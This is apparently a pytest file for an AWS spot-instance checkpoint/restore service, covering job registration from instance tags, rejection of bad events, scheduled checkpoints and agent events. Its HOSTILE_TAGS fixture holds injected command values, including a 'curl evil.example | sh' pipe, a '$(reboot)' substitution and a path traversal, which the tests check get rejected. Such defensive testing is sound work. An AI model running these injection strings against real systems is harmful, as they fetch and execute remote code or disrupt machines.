"""Handlers at the edge: registration by tags, bad input, periodic dumps, agent events and the registry they keep."""

from __future__ import annotations

import dataclasses
import json
import os
from pathlib import Path

import boto3
import pytest
from aws_lambda_powertools.utilities.idempotency.exceptions import IdempotencyPersistenceLayerError
from aws_lambda_powertools.utilities.idempotency.persistence.base import BasePersistenceLayer
from spotcr_contracts import events
from spotcr_contracts import tags as tag_names
from spotcr_functions import checkpoints
from spotcr_functions.config import ENV
from spotcr_functions.handlers import _edge
from spotcr_functions.models import Status
from spotcr_functions.observability import Metric

from rehearsal.controlplane import (
    EVENTS,
    ControlPlane,
    agent_event,
    ec2_event,
    finish_checkpoint,
    finish_exit,
    invoke_function,
    now_iso,
    route,
)

HOSTILE_TAGS = {
    "shell metacharacters": {tag_names.COMMAND: "/opt/job/run; curl evil.example | sh"},
    "command substitution": {tag_names.COMMAND: "/opt/job/run $(reboot)"},
    "256-character job name": {tag_names.JOB: "a" * 256},
    "unknown storage": {tag_names.STORAGE: "nfs"},
    "interval out of range": {tag_names.INTERVAL: "5"},
    "path traversal": {tag_names.WORKDIR: "/opt/../etc"},
}


def _nothing_ran(plane: ControlPlane) -> None:
    assert plane.sent_commands() == []
    assert plane.executions() == []
    assert boto3.client("dynamodb").scan(TableName="spotcr-jobs")["Items"] == []


@pytest.mark.parametrize("hostile", HOSTILE_TAGS.values(), ids=HOSTILE_TAGS.keys())
def test_hostile_tags_get_spotcr_error_and_nothing_runs(plane: ControlPlane, hostile: dict[str, str]) -> None:
    # Given an instance submitted with one hostile tag value
    instance_id = plane.launch_job_instance({tag_names.JOB: "job-x", tag_names.COMMAND: "/opt/job/run", **hostile})

    # When it starts running, then later is interrupted
    [(_, result)] = route(ec2_event("state-change-running", instance_id))
    route(ec2_event("spot-interruption-warning", instance_id))

    # Then it carries spotcr:error naming the tag, and nothing was registered, commanded or started
    error = plane.instance_tags(instance_id)[tag_names.ERROR]
    assert error == result["error"]
    assert error.split(":", 2)[:2] == next(iter(hostile)).split(":")
    assert len(error) <= 256
    _nothing_ran(plane)


def test_job_registers_on_running_and_once_on_tag_change(plane: ControlPlane) -> None:
    instance_id = plane.launch_job_instance(
        {tag_names.JOB: "render-42", tag_names.COMMAND: "/opt/job/run --steps 1000", tag_names.INTERVAL: "60"}
    )
    route(ec2_event("state-change-running", instance_id))
    route(ec2_event("tag-change", instance_id))  # the same job, seen again through its tags

    job = plane.job("render-42")
    assert (job.status, job.instance_id, job.generation, job.interval_s) == (Status.PENDING, instance_id, 0, 60)
    assert job.tags[tag_names.COMMAND] == "/opt/job/run --steps 1000"
    assert tag_names.ERROR not in plane.instance_tags(instance_id)


def test_an_agent_up_before_its_running_state_change_registers_and_runs_the_job(plane: ControlPlane) -> None:
    # Given a tagged instance whose "running" state change has not arrived (late, or lost)
    instance_id = plane.launch_job_instance({"spotcr:job": "early-1", "spotcr:command": "/opt/job/run"})
    # When its agent says it is up and waits for its run
    route(agent_event(events.AgentReady("early-1", instance_id, 0, now_iso(), mode="run")))
    # Then the job is registered and the instance tagged with the run, which lets the agent start the job
    run_id = plane.job("early-1").run_id
    assert plane.instance_tags(instance_id)[tag_names.RUN] == run_id
    route(agent_event(events.JobStarted("early-1", instance_id, 0, now_iso(), pid=7)))
    route(ec2_event("state-change-running", instance_id))
    # And it runs on that instance, so periodic checkpoints will be ordered
    job = plane.job("early-1")
    assert (job.status, job.instance_id, job.generation) == (Status.RUNNING, instance_id, 0)
    assert job.next_checkpoint_at is not None


def test_second_instance_with_a_running_jobs_name_is_refused(plane: ControlPlane) -> None:
    first = plane.start_job("dup-1")
    second = plane.launch_job_instance({tag_names.JOB: "dup-1", tag_names.COMMAND: "/opt/job/run"})
    route(ec2_event("state-change-running", second))
    assert f"already runs on {first}" in plane.instance_tags(second)[tag_names.ERROR]
    assert plane.job("dup-1").instance_id == first


def test_an_instance_tagged_restore_is_no_new_job_and_no_backup_of_an_unknown_one(plane: ControlPlane) -> None:
    backup = plane.launch_job_instance(
        {
            tag_names.JOB: "job-b",
            tag_names.COMMAND: "/opt/job/run",
            tag_names.MODE: "restore",
            tag_names.GENERATION: "3",
        }
    )
    [(_, result)] = route(ec2_event("state-change-running", backup))
    assert result["registered"] is False and "is no backup of job job-b" in result["error"]
    _nothing_ran(plane)


def test_ebs_job_gets_an_encrypted_volume_in_its_az(plane: ControlPlane) -> None:
    instance_id = plane.start_job("ebs-1", **{tag_names.STORAGE: "ebs"}, az="us-east-1b")
    job = plane.job("ebs-1")
    [volume] = plane.ec2.describe_volumes(VolumeIds=[str(job.volume_id)])["Volumes"]
    assert (volume["AvailabilityZone"], volume["Encrypted"]) == ("us-east-1b", True)
    assert [a["InstanceId"] for a in volume["Attachments"]] == [instance_id]


def test_an_ebs_jobs_volume_is_tagged_with_the_stack_that_created_it(
    plane: ControlPlane, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The stack's roles attach, move and delete only volumes carrying its spotcr:stack (infra/grants.py)
    stack_name = os.environ[ENV["stack_name"]]  # the synthesized stack's, as it deploys its functions
    assert stack_name
    plane.start_job("ebs-2", **{tag_names.STORAGE: "ebs"})
    [volume] = plane.ec2.describe_volumes(VolumeIds=[str(plane.job("ebs-2").volume_id)])["Volumes"]
    assert {t["Key"]: t["Value"] for t in volume["Tags"]}[tag_names.STACK] == stack_name


def test_malformed_and_foreign_events_are_ignored(plane: ControlPlane) -> None:
    instance_id = plane.start_job("calm-1")
    warning = ec2_event("spot-interruption-warning", instance_id)
    malformed: list[object] = [
        {**warning, "detail": {"instance-id": "not-an-instance"}},
        {**warning, "detail": {}},
        {key: value for key, value in warning.items() if key != "time"},
        "not even an object",
    ]
    for event in malformed:
        assert invoke_function("interruption", event)["action"] == "ignored"
    bad_agent_events = [
        {"source": events.SOURCE, "detail-type": "JobStarted", "detail": {"version": 2}},
        {"source": events.SOURCE, "detail-type": "Teleported", "detail": {"version": 1}},
        {"source": events.SOURCE, "detail-type": "JobExited", "detail": "exit 0"},
        {"source": "someone.else", "detail-type": "JobExited", "detail": {}},
    ]
    for event in bad_agent_events:
        assert invoke_function("agent-events", event)["action"] == "ignored"
    assert plane.job("calm-1").status == Status.RUNNING
    assert plane.sent_commands() == []
    assert plane.executions() == []


def test_events_for_unknown_instances_and_jobs_do_nothing(plane: ControlPlane) -> None:
    stranger = plane.launch_job_instance({"Name": "not a job"})
    route(ec2_event("state-change-running", stranger))
    route(ec2_event("spot-interruption-warning", stranger))
    route(ec2_event("state-change-terminated", "i-0000000000000000f"))
    route(ec2_event("rebalance-recommendation", stranger))
    route(agent_event(events.JobStarted("ghost", stranger, 0, now_iso())))
    _nothing_ran(plane)


def test_scheduler_orders_due_periodic_checkpoints_once(plane: ControlPlane) -> None:
    # Given two running jobs, one of which is due
    due = plane.start_job("due-1", **{tag_names.INTERVAL: "60"})
    plane.start_job("later-1", **{tag_names.INTERVAL: "3600"})
    table = boto3.resource("dynamodb").Table("spotcr-jobs")
    table.update_item(
        Key={"job_id": "due-1"},
        UpdateExpression="SET next_checkpoint_at = :past",
        ExpressionAttributeValues={":past": 1},
    )

    # When the scheduler runs twice
    first = invoke_function("scheduler", json.loads((EVENTS / "scheduled-event.json").read_text()))
    second = invoke_function("scheduler", json.loads((EVENTS / "scheduled-event.json").read_text()))

    # Then exactly one periodic checkpoint was ordered, on the due job's instance, at its generation
    assert (first["ordered"], second["ordered"]) == (["due-1"], [])
    assert first["exits_asked"] == second["exits_asked"] == []
    [command] = plane.sent_commands("checkpoint")
    assert command["instances"] == [due]
    assert command["parameters"] == {
        "JobId": "due-1",
        "Generation": "0",
        "Kind": "periodic",
        "RunId": plane.job("due-1").run_id,
        "Sequence": "1",  # minted by the claim: the job's first dump order
    }
    job = plane.job("due-1")
    assert job.status == Status.CHECKPOINTING
    assert job.next_checkpoint_at and job.next_checkpoint_at > 1

    # When the checkpoint commits, the job is RUNNING again with it as the newest
    checkpoint = "1795293235815-g0-periodic"
    finish_checkpoint(events.CheckpointCompleted("due-1", due, 0, now_iso(), checkpoint_id=checkpoint))
    job = plane.job("due-1")
    assert (job.status, job.checkpoint_id) == (Status.RUNNING, checkpoint)


def test_the_scheduler_counts_a_periodic_checkpoint_that_never_reported_as_overdue(plane: ControlPlane) -> None:
    # Given two due jobs: one whose periodic dump, ordered an interval ago, never reported, and one that is RUNNING
    plane.start_job("stuck-1", **{tag_names.INTERVAL: "60"})
    plane.start_job("fine-1", **{tag_names.INTERVAL: "60"})
    table = boto3.resource("dynamodb").Table("spotcr-jobs")
    for job_id, status in (("stuck-1", Status.CHECKPOINTING), ("fine-1", Status.RUNNING)):
        table.update_item(
            Key={"job_id": job_id},
            UpdateExpression="SET next_checkpoint_at = :past, #s = :status",
            ExpressionAttributeNames={"#s": "status"},
            ExpressionAttributeValues={":past": 1, ":status": status.value},
        )
    emitted: list[tuple[str, float]] = []
    deps = dataclasses.replace(_edge.deps(), metric=lambda name, unit, value: emitted.append((name, value)))

    # When the scheduler runs
    ran = checkpoints.run_scheduler(deps)

    # Then both get a new order, and the stuck one, only, counts as overdue (the CheckpointsOverdue alarm)
    assert sorted(ran["ordered"]) == ["fine-1", "stuck-1"]
    assert emitted == [(Metric.CHECKPOINTS_OVERDUE, 1)]


def test_the_agents_deadline_plan_brings_the_next_periodic_checkpoint_forward(plane: ControlPlane) -> None:
    # Given a running job checkpointed once an hour
    instance_id = plane.start_job("plan-1", **{tag_names.INTERVAL: "3600"})
    before = plane.job("plan-1").next_checkpoint_at
    assert before is not None

    # When its periodic dump commits with a plan for every 240 s (its final dump would not fit at 3600 s)
    checkpoint = "1795293235815-g0-periodic"
    completed = events.CheckpointCompleted(
        "plan-1", instance_id, 0, now_iso(), checkpoint_id=checkpoint, predicted_final_seconds=88.2, next_interval_s=240
    )
    finish_checkpoint(completed)

    # Then the next one is due within 240 s, and the record shows the plan with no risk
    job = plane.job("plan-1")
    assert job.next_checkpoint_at is not None and job.next_checkpoint_at < before
    assert (job.planned_interval_s, job.predicted_final_dump_s, job.final_dump_risk) == (240, 89, None)

    # When a later dump finds that even the shortest interval cannot fit, and the agent says so
    risk = "the final dump cannot fit the notice: even with periodic checkpoints every 60 s it would take 131 s"
    later = "1795293475815-g0-periodic"
    at_risk = events.CheckpointCompleted(
        "plan-1",
        instance_id,
        0,
        now_iso(),
        checkpoint_id=later,
        predicted_final_seconds=131.0,
        next_interval_s=60,
        deadline_risk=risk,
    )
    [(_, said)] = route(
        agent_event(
            events.FinalDumpAtRisk(
                "plan-1", instance_id, 0, now_iso(), checkpoint_id=later, predicted_final_seconds=131.0, reason=risk
            )
        )
    )
    finish_checkpoint(at_risk)

    # Then the record carries the risk for the status command, and the function reported it
    job = plane.job("plan-1")
    assert (job.planned_interval_s, job.final_dump_risk) == (60, risk)
    assert said["action"] == "final-dump-at-risk"

    # When the job fits again (a dump with a plan that fits), the risk is cleared
    fits = events.CheckpointCompleted(
        "plan-1",
        instance_id,
        0,
        now_iso(),
        checkpoint_id="1795293535815-g0-periodic",
        predicted_final_seconds=70.0,
        next_interval_s=600,
    )
    finish_checkpoint(fits)
    job = plane.job("plan-1")
    assert (job.planned_interval_s, job.final_dump_risk) == (600, None)


def test_a_late_plan_from_an_older_checkpoint_changes_nothing(plane: ControlPlane) -> None:
    instance_id = plane.start_job("plan-2", **{tag_names.INTERVAL: "3600"})
    newer = events.CheckpointCompleted(
        "plan-2", instance_id, 0, now_iso(), checkpoint_id="1795293535815-g0-periodic", next_interval_s=600
    )
    older = events.CheckpointCompleted(
        "plan-2", instance_id, 0, now_iso(), checkpoint_id="1795293235815-g0-periodic", next_interval_s=60
    )
    finish_checkpoint(newer)
    finish_checkpoint(older)
    assert plane.job("plan-2").planned_interval_s == 600


def test_rebalance_recommendation_orders_a_periodic_checkpoint_now(plane: ControlPlane) -> None:
    instance_id = plane.start_job("reb-1")
    route(ec2_event("rebalance-recommendation", instance_id))
    [command] = plane.sent_commands("checkpoint")
    assert (command["instances"], command["parameters"]["Kind"]) == ([instance_id], "periodic")
    assert plane.executions() == []


@pytest.mark.parametrize(("exit_code", "status"), [(0, Status.COMPLETED), (3, Status.FAILED)])
def test_job_exit_finishes_the_job_and_later_termination_does_nothing(
    plane: ControlPlane, exit_code: int, status: Status
) -> None:
    instance_id = plane.start_job("done-1")
    finish_exit(events.JobExited("done-1", instance_id, 0, now_iso(), exit_code=exit_code))
    route(ec2_event("state-change-terminated", instance_id))
    route(ec2_event("spot-interruption-warning", instance_id))
    job = plane.job("done-1")
    assert (job.status, job.exit_code) == (status, exit_code)
    assert plane.executions() == []
    # Only the status command that confirmed the exit through SSM: no dump, no recovery
    assert [c["document"] for c in plane.sent_commands()] == [plane.documents["status"]]


def test_stale_generation_events_are_ignored(plane: ControlPlane) -> None:
    instance_id = plane.start_job("fence-1")
    table = boto3.resource("dynamodb").Table("spotcr-jobs")
    table.update_item(
        Key={"job_id": "fence-1"}, UpdateExpression="SET generation = :g", ExpressionAttributeValues={":g": 4}
    )
    zombie = events.CheckpointCompleted(
        "fence-1", instance_id, 3, now_iso(), checkpoint_id="1795293235815-g3-final", kind="final"
    )
    [(_, result)] = route(agent_event(zombie))
    assert result == {"action": "ignored", "reason": "stale generation"}
    # and neither does SSM's answer to a dump ordered at that old generation
    old_order = events.CheckpointCompleted(
        "fence-1", instance_id, 3, now_iso(), checkpoint_id="1795293235815-g3-periodic"
    )
    answered = dict(finish_checkpoint(old_order))
    assert answered["command-result"] == {"action": "ignored", "reason": "stale generation", "job_id": "fence-1"}
    finish_exit(events.JobExited("fence-1", instance_id, 3, now_iso(), exit_code=0))
    job = plane.job("fence-1")
    assert (job.status, job.checkpoint_id) == (Status.RUNNING, None)


AGENT_VECTORS = sorted((EVENTS / "agent").glob("*.json"))


def test_agent_vectors_cover_every_event_type() -> None:
    assert {p.stem for p in AGENT_VECTORS} >= set(events.EVENT_TYPES)


@pytest.mark.parametrize("path", AGENT_VECTORS, ids=[p.stem for p in AGENT_VECTORS])
def test_agent_vectors_parse_and_reach_the_handler(plane: ControlPlane, path: Path) -> None:
    vector = json.loads(path.read_text())
    parsed = events.parse_detail(vector["detail-type"], vector["detail"])
    assert vector["detail-type"] == parsed.DETAIL_TYPE
    event = {
        "version": "0",
        "id": "x",
        "account": "123456789012",
        "time": now_iso(),
        "region": "us-east-1",
        "resources": [],
        **vector,
    }
    [(function, result)] = route(event)
    assert function == "agent-events"
    assert result == {"action": "ignored", "reason": "unknown job"}


def test_an_event_handled_whose_record_as_handled_failed_is_not_failed_for_it(
    plane: ControlPlane, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Given a running job, and the idempotency store refusing to record an event as handled (a throttled write)
    primary = plane.start_job("saved-1")

    def refused(*_args: object, **_kwargs: object) -> None:
        raise IdempotencyPersistenceLayerError("Failed to update record state to success in idempotency store")

    monkeypatch.setattr(BasePersistenceLayer, "save_success", refused)

    # When the interruption warning is handled
    [(_, outcome)] = route(ec2_event("spot-interruption-warning", primary))

    # Then the invocation succeeds with what it did (a retry would only meet the record left in progress)
    assert outcome["action"] == "recovering", outcome
    assert plane.job("saved-1").generation == 1
